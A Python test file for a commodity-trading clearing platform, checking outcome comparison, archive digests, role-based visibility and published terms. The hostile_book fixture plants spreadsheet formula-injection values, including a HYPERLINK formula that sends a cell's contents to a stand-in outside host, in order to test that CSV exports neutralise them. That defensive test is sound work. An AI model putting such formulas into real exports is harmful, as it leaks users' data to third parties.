"""Stored outcomes read back: side by side, as files, and for a trader what concerns it."""

import csv
import hashlib
import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest

from samarkand.book.book import Book
from samarkand.book.reading import read_book
from samarkand.clearing.check import check
from samarkand.clearing.outcome import Outcome
from samarkand.clearing.outcome_files import read_outcome
from samarkand.platform.house.actor import Actor, Role
from samarkand.platform.house.permissions import NotPermittedError
from samarkand.platform.rounds.files import archive_of, report_of
from samarkand.platform.rounds.models import Clearing, Round
from samarkand.platform.rounds.outcomes import compare, outcome_of, snapshot_book
from samarkand.platform.rounds.own_rows import own_unmatched, public_terms
from samarkand.platform.rounds.permissions import visible_clearings, visible_rounds
from tests import cast
from tests.platform.conftest import AUDITOR, OPERATOR, REGULATOR, party, trader
from tests.platform.findings import codes_of
from tests.platform.rounds.playing import asked, cleared, frozen_round

pytestmark = pytest.mark.django_db


def listed_book() -> Book:
    """Three could trade; at the listed value of wheat AltynDan would not give any."""
    return cast.book(
        f"{cast.MESKAY}: gives 20000 t rice @650; wants 20000 t chickpeas @760",
        f"{cast.ASTARTA}: gives 20000 t chickpeas @600; wants 20000 t rice @720; wants 90 t wheat @900",
        f"{cast.ALTYN_DAN}: gives 100 t wheat @220; wants 100 t chickpeas @780",
        listed=["rice 650 t", "chickpeas 650 t", "wheat 1 t"],
    )


def test_two_clearings_of_one_snapshot_are_set_side_by_side() -> None:
    round_ = frozen_round(listed_book())
    discovered, listed = cleared(round_), cleared(round_, "listed", terms="listed")
    compared = compare(discovered, listed)
    legs = outcome_of(discovered).legs
    assert compared.first.value == sum(legs["value"])
    assert (compared.first.clearing, compared.second.clearing) == ("discovered", "listed")
    one, other = (traders(outcome_of(clearing)) for clearing in (discovered, listed))
    assert compared.only_in_first == tuple(sorted(one - other))
    assert compared.only_in_second == tuple(sorted(other - one))
    assert (compared.first.parties, compared.second.parties) == (len(one), len(other))


def traders(outcome: Outcome) -> set[str]:
    return {*outcome.legs["from_party"], *outcome.legs["to_party"]}


def test_what_is_not_stored_has_no_outcome() -> None:
    clearing = asked(frozen_round())
    assert codes_of(lambda: outcome_of(clearing)) == {"not_stored"}
    assert codes_of(lambda: compare(clearing, clearing)) == {"not_stored"}


def test_the_archive_proves_itself_anywhere(tmp_path: Path) -> None:
    clearing = cleared(frozen_round(cast.ring()))
    with zipfile.ZipFile(io.BytesIO(archive_of(AUDITOR, clearing))) as archive:
        archive.extractall(tmp_path)
    book = read_book(tmp_path / "book").book
    assert book is not None
    assert check(book, read_outcome(tmp_path / "outcome")) == []
    assert "<html" in (tmp_path / "outcome" / "report.html").read_text()
    assert json.loads((tmp_path / "outcome" / "outcome.json").read_text())["status"] == "cleared"
    kept = json.loads((tmp_path / "snapshot.json").read_text())
    assert book.digests() == kept["digests"]
    told = bytes.fromhex(kept["salt"]) + json.dumps(book.digests(), sort_keys=True).encode()
    assert hashlib.sha256(told).hexdigest() == kept["digest"] == clearing.round.snapshot.digest


def hostile_book() -> Book:
    """Return a ring with what a spreadsheet would run, wherever a trader may write it."""
    book = cast.ring()
    codes = {"Meskay gives 1": "=1+1", "Astarta gives 1": "@SUM(1)", "AltynDan wants 1": "''-2"}
    note = pl.lit('=HYPERLINK("http://elsewhere/?"&A1,"x")').alias("note")
    return replace(
        book,
        offers=book.offers.with_columns(pl.col("offer").replace(codes), note),
        wants=book.wants.with_columns(pl.col("want").replace(codes), note),
    )


def test_nothing_in_the_archive_runs_in_a_spreadsheet_and_nothing_is_lost(tmp_path: Path) -> None:
    round_ = frozen_round(hostile_book())
    with zipfile.ZipFile(io.BytesIO(archive_of(AUDITOR, cleared(round_)))) as archive:
        archive.extractall(tmp_path)
    cells = [
        cell
        for file in tmp_path.rglob("*.csv")
        for row in csv.reader(file.read_text().splitlines())
        for cell in row
    ]
    assert {"'=1+1", "'@SUM(1)", "'" + "''-2"} <= set(cells)
    assert [cell for cell in cells if re.match(r"'*([=+@\t\r]|-(?![\d.]+$))", cell) and cell[0] != "'"] == []
    book = read_book(tmp_path / "book").book
    assert book is not None
    assert book.digests() == snapshot_book(round_).digests()
    outcome = read_outcome(tmp_path / "outcome")
    assert check(book, outcome) == []
    assert {"=1+1", "@SUM(1)"} <= set(outcome.legs["offer"])


def test_the_page_is_for_those_who_may_see_all() -> None:
    clearing = cleared(frozen_round())
    assert "Meskay" in report_of(OPERATOR, clearing)
    for read in (report_of, archive_of):
        with pytest.raises(NotPermittedError):
            read(trader(cast.MESKAY), clearing)


@pytest.mark.parametrize("actor", [OPERATOR, AUDITOR, REGULATOR])
def test_those_who_watch_see_clearings_whole(actor: Actor) -> None:
    cleared(frozen_round())
    assert visible_clearings(actor).count() == 1


@pytest.mark.parametrize(
    "actor", [trader(cast.MESKAY), Actor(None, "customs of PK", Role.REGULATOR, country="PK")]
)
def test_others_see_the_round_and_no_clearing(actor: Actor) -> None:
    cleared(frozen_round())
    assert (visible_rounds(actor).count(), visible_clearings(actor).count()) == (1, 0)


def shown(round_: Round, clearing: Clearing) -> Round:
    """Return the round as if the clearing were published."""
    round_.published = clearing
    return round_


def test_before_it_is_published_nothing_of_a_round_is_told() -> None:
    round_ = frozen_round()
    cleared(round_)
    assert codes_of(lambda: public_terms(trader(cast.MESKAY), round_)) == {"state_wrong"}
    assert codes_of(lambda: own_unmatched(round_, party(cast.MESKAY))) == {"state_wrong"}


REGULATOR_OF_PAKISTAN = Actor(None, "customs of PK", Role.REGULATOR, country="PK")
REGULATOR_OF_CHINA = Actor(None, "customs of CN", Role.REGULATOR, country="CN")


@pytest.mark.parametrize(
    ("actor", "goods"),
    [
        (OPERATOR, {"100630", "071320"}),
        (AUDITOR, {"100630", "071320"}),
        (trader(cast.MESKAY), {"100630", "071320"}),
        (REGULATOR_OF_PAKISTAN, {"100630", "071320"}),
        (trader(cast.LUOYANG), set()),
        (REGULATOR_OF_CHINA, set()),
    ],
)
def test_terms_are_told_without_a_party_or_a_limit(actor: Actor, goods: set[str]) -> None:
    round_ = frozen_round()
    told = public_terms(actor, shown(round_, cleared(round_)))
    assert {row["commodity"] for row in told} == goods
    for row in told:
        assert not {"party", "limit", "rate_low", "rate_high"} & set(row)
        assert (row["traded_quantity"] is not None) == (actor in {OPERATOR, AUDITOR})


def test_a_party_is_told_why_its_rows_are_left_and_no_others() -> None:
    round_ = frozen_round(
        cast.book(
            f"{cast.MESKAY}: gives 20000 t rice @650 as rice; wants 20000 t chickpeas @760",
            f"{cast.ASTARTA}: gives 20000 t chickpeas @600; wants 20000 t rice @720",
            f"{cast.LUOYANG}: gives 10 pieces tractors @9000 as tractors; wants 5 t rice @900",
        )
    )
    shown(round_, cleared(round_))
    mine = own_unmatched(round_, party(cast.LUOYANG))
    assert {(row.code, row.reason) for row in mine if row.side == "offer"} == {("tractors", "no_counterpart")}
    assert all(row.told for row in mine)
    assert not {row.code for row in own_unmatched(round_, party(cast.MESKAY))} & {row.code for row in mine}
